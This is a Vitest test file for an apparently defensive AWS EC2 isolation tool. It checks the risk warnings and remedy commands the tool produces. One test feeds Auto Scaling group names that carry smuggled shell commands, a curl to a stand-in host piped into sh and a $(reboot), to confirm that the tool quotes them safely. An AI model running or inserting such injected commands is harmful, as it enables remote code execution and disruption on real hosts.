import { describe, expect, it } from 'vitest';
import type { TrackedPath } from '../../src/case/cut.ts';
import {
  groupSuspended,
  membershipUnread,
  stillInAutoScalingGroup,
} from '../../src/case/risks/auto-scaling.ts';
import {
  connectionsKept,
  transitionFailed,
  transitionUnknown,
} from '../../src/case/risks/connections.ts';
import {
  evidenceWayRefused,
  evidenceWaysUnread,
  referencesLost,
  requesterManagedInterface,
} from '../../src/case/risks/isolation-groups.ts';
import { ambiguousTargets, undoFromLogOnly, unusualSettings } from '../../src/case/risks/record.ts';
import { sideDoorRisks } from '../../src/case/risks/side-doors.ts';
import { standingRisks } from '../../src/case/risks/standing.ts';
import { routesUnread, trackedPathRisks } from '../../src/case/risks/tracked-paths.ts';
import { accountId, instanceId, instanceWith } from './sample-before.ts';

const pathWith = (changes: Partial<TrackedPath> = {}): TrackedPath => ({
  interfaceId: 'eni-0a1b2c3d4e5f60718',
  destination: '0.0.0.0/0',
  target: 'nat-0123456789abcdef0',
  kind: 'nat-gateway',
  ...changes,
});

const profile = `arn:aws:iam::${accountId}:instance-profile/team/web-server`;

const named = (risks: ReturnType<typeof standingRisks>) => risks.map(({ risk }) => risk);

describe('the risk of tracked paths', () => {
  it('warns that old connections may live when the traffic leaves through a NAT gateway', () => {
    const [risk] = trackedPathRisks([pathWith()], instanceWith());
    expect(risk).toMatchObject({ risk: 'nat-tracked-flows' });
    expect(risk?.explanation).toContain('eni-0a1b2c3d4e5f60718 via nat-0123456789abcdef0');
    expect(risk?.remedy).toContain('network ACL');
  });

  it('is told once per kind of path, with every place', () => {
    const risks = trackedPathRisks(
      [
        pathWith(),
        pathWith({ interfaceId: 'eni-second' }),
        pathWith({ destination: '198.51.100.0/24' }),
        pathWith({ kind: 'egress-only-gateway', target: 'eigw-1' }),
      ],
      instanceWith(),
    );
    expect(named(risks)).toEqual(['nat-tracked-flows', 'egress-only-gateway-tracked-flows']);
    expect(risks[0]?.explanation.match(/via nat-/g)).toHaveLength(2);
  });

  it('is none without such a path', () => {
    expect(trackedPathRisks([], instanceWith())).toEqual([]);
  });
});

describe('connections that were open', () => {
  it('live on because the setting says so, or because the server goes on serving', () => {
    expect(connectionsKept('full').explanation).toContain('ConnectionCut is "none"');
    expect(connectionsKept('forensic').explanation).toContain('ConnectionCut is "none"');
    expect(connectionsKept('egress-lockdown').explanation).toContain('keeps the server serving');
  });
});

describe('what security groups cannot take away', () => {
  it('is DNS through the resolver, always', () => {
    const quiet = instanceWith({ metadataService: 'disabled', state: 'stopped' });
    expect(named(standingRisks(quiet))).toEqual(['resolver-dns']);
  });

  // threat A2
  it('is ICMP while the host runs: AWS tracks it whatever the rules', () => {
    expect(named(standingRisks(instanceWith()))).toContain('icmp-tracked');
    expect(named(standingRisks(instanceWith({ state: 'stopped' })))).not.toContain('icmp-tracked');
  });

  // threat A6
  it('is the trail, which the host reads where tags are in the metadata', () => {
    const risk = standingRisks(instanceWith({ metadataTags: true })).find(
      (one) => one.risk === 'trail-readable-from-host',
    );
    expect(risk?.remedy).toContain(`--instance-id ${instanceId} --instance-metadata-tags disabled`);
    expect(named(standingRisks(instanceWith()))).not.toContain('trail-readable-from-host');
  });

  it('is the metadata service while it answers, with the command that switches it off', () => {
    const risk = standingRisks(instanceWith()).find((one) => one.risk === 'instance-metadata');
    expect(risk?.remedy).toContain(`--instance-id ${instanceId} --http-endpoint disabled`);
  });

  it('is the credentials of the role, which work from anywhere', () => {
    const risks = standingRisks(instanceWith({ instanceProfileArn: profile }));
    const risk = risks.find((one) => one.risk === 'role-credentials-valid');
    expect(risk?.explanation).toContain('web-server');
    expect(risk?.remedy).toContain('--instance-profile-name web-server ');
  });

  it('revokes the sessions of this instance only, with a policy that IAM can read', () => {
    const risks = standingRisks(
      instanceWith({
        instanceProfileArn: profile.replace('arn:aws:', 'arn:aws-cn:'),
        region: 'cn-north-1',
        tags: {},
      }),
    );
    const policy = /--policy-document '(.+)'$/.exec(risks[0]?.remedy ?? '')?.[1] ?? '';
    expect(JSON.parse(policy)).toMatchObject({
      Version: '2012-10-17',
      Statement: [
        {
          Effect: 'Deny',
          Condition: {
            ArnEquals: {
              'ec2:SourceInstanceARN': `arn:aws-cn:ec2:cn-north-1:${accountId}:instance/${instanceId}`,
            },
          },
        },
        { Effect: 'Deny', Condition: { StringLike: { 'aws:userid': `*:${instanceId}` } } },
      ],
    });
  });
});

describe('an Auto Scaling group that was kept from terminating', () => {
  const remedyFor = (groupName: string, own: readonly string[] = ['Terminate']) =>
    groupSuspended(groupName, ['ReplaceUnhealthy', 'Terminate'], own, ['refused']).remedy;

  // threat D9
  it.each([
    ['web-asg', 'web-asg'],
    ['web asg; curl evil.example | sh', "'web asg; curl evil.example | sh'"],
    ["it's $(reboot)", "'it'\\''s $(reboot)'"],
  ])('is one word in the command that resumes it, whatever it is called: %s', (name, word) => {
    expect(remedyFor(name)).toContain(
      `--auto-scaling-group-name ${word} --scaling-processes Terminate`,
    );
  });

  it('has no command to resume what somebody else had suspended before', () => {
    expect(remedyFor('web-asg', [])).not.toContain('resume-processes');
  });
});

const allDoors = {
  systemsManager: ['vpce-1'],
  instanceConnect: ['eice-1'],
  serialConsole: true,
  unread: ['the serial console (denied)'],
};

describe('other ways to the host', () => {
  it('are told where they exist, and where nobody could look', () => {
    expect(named(sideDoorRisks(allDoors))).toEqual([
      'systems-manager-channel',
      'instance-connect-endpoint',
      'serial-console',
      'side-doors-unread',
    ]);
    expect(
      sideDoorRisks({ systemsManager: [], instanceConnect: [], serialConsole: false, unread: [] }),
    ).toEqual([]);
  });
});

describe('every risk', () => {
  const risks = [
    ...sideDoorRisks(allDoors),
    ...trackedPathRisks([pathWith()], instanceWith()),
    ...standingRisks(instanceWith({ instanceProfileArn: profile })),
    routesUnread('denied'),
    connectionsKept('full'),
    connectionsKept('egress-lockdown'),
    referencesLost(['sg-1 (db)']),
    evidenceWayRefused('eni-1', 'subnet-1 has no route to a gateway endpoint for S3'),
    evidenceWaysUnread('denied'),
    transitionFailed(['eni-1'], 'denied'),
    transitionUnknown,
    requesterManagedInterface(['eni-1']),
    undoFromLogOnly('eni-1'),
    membershipUnread('denied'),
    stillInAutoScalingGroup('InService in web'),
    unusualSettings(['MODE is "x"']),
    ambiguousTargets(['web 10.0.0.1']),
  ];

  it.each(risks)('$risk says in words what it is and what to do', (risk) => {
    expect(risk.risk).toMatch(/^[a-z][a-z0-9]*(?:-[a-z0-9]+)*$/);
    expect(risk.explanation).toMatch(/\.$/);
    expect(risk.remedy.length).toBeGreaterThan(20);
    expect(`${risk.explanation}${risk.remedy}`).not.toMatch(/undefined|\[object/);
  });
});
